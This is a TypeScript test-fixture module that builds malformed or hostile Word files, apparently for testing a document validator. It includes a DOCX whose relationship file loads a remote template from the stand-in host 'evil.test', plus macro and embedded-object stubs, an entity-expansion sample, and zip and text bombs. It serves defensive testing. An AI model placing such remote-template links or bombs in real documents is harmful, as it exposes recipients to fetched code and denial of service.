import { strToU8, zipSync, type Zippable } from 'fflate';

const types =
	'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
export const paragraphs = (lines: readonly string[]): string =>
	lines
		.map((line) => `<w:p><w:r><w:t>${line.split('\t').map(escaped).join('</w:t><w:tab/><w:t>')}</w:t></w:r></w:p>`)
		.join('');

/** A Word file as one is written, with whatever else a test puts beside the text. */
export function word(body: string, more: Zippable = {}): Buffer {
	const document = `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`;
	const parts = { '[Content_Types].xml': strToU8(types), 'word/document.xml': strToU8(document), ...more };
	return Buffer.from(zipSync(parts));
}
const rels = (target: string, kind: string): string =>
	`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;

export const wordWithMacro = () => word(paragraphs(['姓名：王某']), { 'word/vbaProject.bin': strToU8('VBA') });
export const wordWithObject = () =>
	word(paragraphs(['姓名：王某']), { 'word/embeddings/oleObject1.bin': strToU8('MZ') });
/** Fetches a template from elsewhere as soon as Word opens it. */
export const wordWithTemplate = () =>
	word(paragraphs(['姓名：王某']), {
		'word/_rels/document.xml.rels': strToU8(rels('http://evil.test/t.dotm', 'attachedTemplate')),
	});
export const wordWithEntities = () => {
	const bomb =
		'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w:document><w:p><w:t>&b;</w:t></w:p></w:document>';
	return word('', { 'word/document.xml': strToU8(bomb) });
};
/** 45 MB of zeros beside the text, in some two hundred kilobytes. */
export const wordBomb = () =>
	word(paragraphs(['姓名：王某']), { 'word/media/zeros.png': [new Uint8Array(45 * 1024 * 1024), { level: 1 }] });
/** The text itself is the bomb. */
export const wordTextBomb = () => word(`<w:p><w:t>${'0'.repeat(12 * 1024 * 1024)}</w:t></w:p>`);
export const wordOfParts = (parts: number) =>
	word(
		paragraphs(['姓名：王某']),
		Object.fromEntries(Array.from({ length: parts }, (_, n) => [`word/x${n}.xml`, strToU8('x')])),
	);
